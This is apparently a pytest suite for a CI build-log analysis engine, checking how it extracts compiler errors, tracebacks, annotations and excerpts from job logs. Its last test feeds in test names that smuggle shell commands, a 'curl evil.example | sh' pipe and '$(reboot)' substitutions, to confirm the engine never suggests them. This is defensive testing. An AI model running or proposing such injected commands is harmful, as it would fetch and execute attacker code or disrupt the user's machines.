"""The engine as a whole on small logs."""

from __future__ import annotations

import mmap
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from ci_analysis.engine import analyze
from tests.engine.logs import job, stamped, step

BROKEN = job(
    step("npm ci", "added 12 packages"),
    step("make", "cc -c a.c", "a.c:3:5: error: expected ';' before 'return'", "make: *** [a.o] Error 1", exit_code=2),
)


def test_a_failure_is_explained() -> None:
    report = analyze(BROKEN)
    finding = report.findings[0]
    assert report.category == finding.category == "compile"
    assert report.failed_step == "Run make"
    assert (finding.file, finding.line, finding.column) == ("a.c", 3, 5)
    assert "expected ';'" in finding.message
    assert "expected ';'" in report.excerpt
    assert any(line.evidence and "expected ';'" in line.text for line in finding.excerpt)


@pytest.mark.parametrize(
    "log",
    [
        b"",
        b"\n\n\n",
        b"all good\n",
        job(step("make", "error: tolerated", "0 errors"), step("pytest", "3 passed")),
        b'$ make\nok\nThe command "make" exited with 0.\n\nDone. Your build exited with 0.\n',
        b"Started by timer\nERROR: tolerated\nFinished: SUCCESS\n",
    ],
)
def test_a_green_log_has_no_findings(log: bytes) -> None:
    report = analyze(log)
    assert (report.category, report.findings, report.evidence, report.excerpt, report.failed_tests) == (
        None,
        (),
        (),
        "",
        (),
    )


def test_the_runners_last_word_is_not_the_answer() -> None:
    report = analyze(job(step("./check", "value 5 is above the limit 3", exit_code=1)))
    assert report.findings
    assert "Process completed" not in report.findings[0].message
    assert "above the limit" in report.findings[0].message


def test_a_step_that_says_nothing_still_has_a_finding() -> None:
    report = analyze(job(step("./silent", exit_code=3)))
    assert len(report.findings) == 1
    assert report.failed_step == "Run ./silent"


def test_independent_failures_are_separate_findings() -> None:
    log = job(step("make", "a.c:1:1: error: first thing", "b.c:2:2: error: second thing", exit_code=2))
    assert [f.file for f in analyze(log).findings] == ["a.c", "b.c"]


def test_one_cause_said_twice_is_one_finding() -> None:
    said = "a.c:1:1: error: first thing"
    assert len(analyze(job(step("make", said, "summary:", said, exit_code=2))).findings) == 1


def test_files_are_named_as_in_the_repository() -> None:
    log = job(step("make", "/home/runner/work/app/app/src/a.c:1:1: error: no", exit_code=2))
    assert analyze(log).findings[0].file == "src/a.c"


def test_a_file_mapped_into_memory_gives_the_same_report(tmp_path: Path) -> None:
    path = tmp_path / "build.log"
    path.write_bytes(BROKEN)
    with path.open("rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
        assert analyze(mapped) == analyze(BROKEN)


@pytest.mark.parametrize("chars", [0, 1, 40, 400])
def test_the_excerpt_keeps_to_its_budget(chars: int) -> None:
    assert len(analyze(BROKEN, excerpt_chars=chars).excerpt) <= chars


def test_a_python_traceback_names_the_repositorys_own_frame() -> None:
    log = job(
        step(
            "python run.py",
            "Traceback (most recent call last):",
            '  File "/home/runner/work/app/app/run.py", line 7, in <module>',
            "    load()",
            '  File "/opt/venv/lib/python3.11/site-packages/lib/load.py", line 70, in load',
            "    raise ValueError(name)",
            "ValueError: no such shelf: b12",
            exit_code=1,
        )
    )
    finding = analyze(log).findings[0]
    assert (finding.file, finding.line, finding.message) == ("run.py", 7, "ValueError: no such shelf: b12")


def test_an_annotation_names_file_and_line() -> None:
    log = stamped(
        [
            "##[group]Run acme/lint@v1",
            "with:",
            "##[endgroup]",
            "::error file=src/x.y,line=4,col=2::tabs are not allowed",
            "##[error]Lint found problems",
        ]
    )
    finding = analyze(log).findings[0]
    assert (finding.file, finding.line, finding.column) == ("src/x.y", 4, 2)


def test_a_findings_excerpt_stays_within_its_step() -> None:
    log = job(step("echo before", "before"), step("make", "cc -c a.c", "a.c:3:5: error: no", exit_code=2))
    finding = analyze(log).findings[0]
    assert [line.text for line in finding.excerpt] == [
        "",
        "cc -c a.c",
        "a.c:3:5: error: no",
        "Process completed with exit code 2.",
    ]
    assert [line.evidence for line in finding.excerpt] == [False, False, True, False]


def test_threads_can_analyse_at_the_same_time() -> None:
    alone = analyze(BROKEN, baselines=[BROKEN[:200]])
    with ThreadPoolExecutor(4) as pool:
        together = list(pool.map(lambda _: analyze(BROKEN, baselines=[BROKEN[:200]]), range(40)))
    assert all(report == alone for report in together)


def test_same_cause_in_two_runs_has_one_fingerprint() -> None:
    other = job(
        step("npm ci", "added 14 packages"),
        step("echo"),
        step("make", "cc -c a.c", "a.c:9:1: error: expected ';' before 'return'", exit_code=2),
    )
    assert analyze(other).findings[0].fingerprint == analyze(BROKEN).findings[0].fingerprint


@pytest.mark.parametrize("name", ["test_x['; curl evil.example | sh; ']", "test_x[$(reboot)]", "test_x[`reboot`]"])
def test_no_command_is_suggested_that_a_logs_author_could_have_written(name: str) -> None:
    log = job(step("pytest", f"FAILED tests/a.py::{name} - assert 1 == 2", exit_code=1))
    report = analyze(log)
    assert report.failed_tests == (f"tests/a.py::{name}",)
    assert not any(word in report.findings[0].suggestion for word in ("curl", "reboot"))
